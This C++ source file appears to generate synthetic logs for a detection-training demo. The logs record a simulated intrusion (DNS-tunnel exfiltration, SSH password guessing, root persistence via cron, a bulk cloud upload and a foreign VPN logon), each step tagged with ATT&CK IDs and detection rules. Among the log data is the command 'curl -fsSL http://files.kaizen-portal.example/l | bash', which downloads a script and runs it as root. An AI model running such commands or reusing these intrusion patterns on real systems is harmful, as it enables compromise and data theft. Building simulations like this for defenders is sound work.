#include <algorithm>
#include <array>

#include <fmt/format.h>

#include "demo/intrusion_stage.h"
#include "demo/rule_ids.h"

namespace hinomi::demo {
namespace {

constexpr std::string_view kBuildServer = "lnx-bld01";
constexpr std::string_view kDeployAccount = "deploy";

// Data in the first label, at most 63 octets long (RFC 1035, 2.3.4).
std::string tunnel_label(Random& random) {
  constexpr std::string_view kAlphabet = "abcdefghijklmnopqrstuvwxyz234567";  // base32 (RFC 4648)
  std::string label;
  const std::int64_t length = random.between(48, 60);
  for (std::int64_t i = 0; i < length; ++i) label += kAlphabet[random.below(kAlphabet.size())];
  return label;
}

// The implant's second way out: a few questions every ten minutes, and three bursts when it carries stolen
// data.
void add_name_tunnel(Stage& stage) {
  const Host& computer = stage.host(kPatientZero);
  const Site& server = site("ns1.sync-cdn.example");
  const auto ask = [&](TimeNs time) {
    stage.scene.logs.dns.query(
        time, {computer.address, fmt::format("{}.t.{}", tunnel_label(stage.random), server.domain),
               server.domain, "TXT", "v=1;ok"});
  };
  constexpr std::array<int, 3> kBurstHours{10, 14, 16};
  constexpr int kBurstQuestions = 22;
  for (int round = 0; round < 51; ++round) {  // 09:25 to 17:45
    const TimeNs time = stage.day().at(9, 25 + 10 * round);
    const bool after_burst =
        round % 6 == 1 && std::ranges::find(kBurstHours, 9 + round / 6) != kBurstHours.end();
    for (int i = 0; i < 3 && !after_burst; ++i)
      ask(later(time, seconds{4} * i + random_span(stage.random, {}, seconds{2})));
  }
  for (const int hour : kBurstHours) {
    const TimeNs begin = stage.day().at(hour, 26, 0);
    TimeNs time = begin;
    for (int i = 0; i < kBurstQuestions; ++i) {
      ask(time);
      time = later(time, random_span(stage.random, milliseconds{2500}, milliseconds{9000}));
    }
    stage.steps.push_back({begin, time, std::string(kPatientZero), LogFile::dns, "T1071.004",
                           "Stolen data leaves in the names of DNS questions.",
                           "盗んだ情報が DNS 問い合わせの名前に載せて送り出される。", rule_ids::kDnsTunnel});
  }
}

void add_ssh(Stage& stage) {
  LinuxLog& log = stage.scene.logs.linux_log;
  const Host& server = stage.host(kBuildServer);
  const std::string& from = stage.host("SRM-FS01").address;
  constexpr auto kGuessed =
      std::to_array<std::string_view>({"root", "deploy", "invalid user admin", "jenkins", "deploy"});
  const TimeNs begin = stage.day().at(14, 12, 30);
  TimeNs time = begin;
  for (std::size_t i = 0; i < 70; ++i) {
    log.ssh_failed(server, time, kGuessed[i % kGuessed.size()], from);
    time = later(time, random_span(stage.random, milliseconds{1200}, milliseconds{3400}));
  }
  log.ssh_accepted(server, time, kDeployAccount, from, "password");
  stage.steps.push_back({begin, time, std::string(kBuildServer), LogFile::linux_system, "T1110.001",
                         "Seventy passwords are tried on the build server until one fits.",
                         "ビルドサーバーで 70 回パスワードが試され、ついに一致する。",
                         rule_ids::kSshGuessed});
}

void add_linux_foothold(Stage& stage) {
  LinuxLog& log = stage.scene.logs.linux_log;
  const Host& server = stage.host(kBuildServer);
  const TimeNs time = stage.day().at(14, 24, 2);
  log.sudo(server, time, kDeployAccount,
           "/usr/bin/bash -c curl -fsSL http://files.kaizen-portal.example/l | bash");
  log.execve(server, later(time, milliseconds{15}),
             {"/usr/bin/bash",
              {"/usr/bin/bash", "-c", "curl -fsSL http://files.kaizen-portal.example/l | bash"},
              1003,
              0});
  stage.steps.push_back({time, time, std::string(kBuildServer), LogFile::linux_system, "T1059.004",
                         "As root, a script from the Internet is piped into a shell.",
                         "root 権限で、インターネット上のスクリプトをそのままシェルに渡す。",
                         rule_ids::kSudoDownloadToShell});
  const TimeNs job = stage.day().at(14, 27, 19);
  log.file_created(server, job, "/usr/bin/bash", "/etc/cron.d/sysstat-refresh", 1003);
  stage.steps.push_back({job, job, std::string(kBuildServer), LogFile::linux_audit, "T1053.003",
                         "A new file in /etc/cron.d calls the intruder back every hour.",
                         "/etc/cron.d に新しいファイルが置かれ、毎時侵入者に接続する。",
                         rule_ids::kCronFileCreated});
  for (int hour = 15; hour < 24; ++hour) {
    log.line(server, stage.day().at(hour, 17, 1, 300), "CRON",
             "(root) CMD (/usr/lib/sysstat/refresh >/dev/null 2>&1)");
  }
}

void add_upload(Stage& stage) {
  const Host& server = stage.host("SRM-FS02");
  const Site& storage = site("up.filebox.example");
  stage.scene.logs.dns.query(stage.day().at(15, 39, 58),
                             {server.address, storage.host, storage.domain, "A", storage.address});
  const TimeNs begin = stage.day().at(15, 40, 2);
  TimeNs time = begin;
  for (int part = 1; part <= 12; ++part) {
    stage.scene.logs.proxy.request(
        time, {server.address, kServerAdmin, "", "PUT", "https", storage.host, storage.address,
               fmt::format("/v2/files/q.part{:02}", part), "rclone/v1.66.2024", 201, 67'108'864, 208});
    time = later(time, random_span(stage.random, seconds{95}, seconds{170}));
  }
  stage.steps.push_back({begin, time, "SRM-FS02", LogFile::proxy, "T1567.002",
                         "Eight hundred megabytes go to a cloud storage within half an hour.",
                         "30 分ほどの間に 800 MB がクラウドストレージへ送られる。", rule_ids::kUploadVolume});
}

void add_vpn(Stage& stage) {
  const Person& victim = stage.scene.company.person(kVictim);
  VpnLog& log = stage.scene.logs.vpn;
  const TimeNs time = stage.day().at(17, 46, 20);
  log.event(time, {"LOGON", victim.account, victim.name, "198.51.100.23", "XA", "10.30.0.240", "success"});
  log.event(later(time, hours{1} + minutes{20}),
            {"LOGOFF", victim.account, victim.name, "198.51.100.23", "XA", "10.30.0.240", "success"});
  stage.steps.push_back({time, time, "vpn01", LogFile::vpn, "T1133",
                         "The victim's account connects from another country than in the morning.",
                         "被害者のアカウントが、朝とは別の国から VPN に接続する。",
                         rule_ids::kVpnTwoCountries});
}

}  // namespace

void add_network_stage(Stage stage) {
  add_name_tunnel(stage);
  add_ssh(stage);
  add_linux_foothold(stage);
  add_upload(stage);
  add_vpn(stage);
}

}  // namespace hinomi::demo
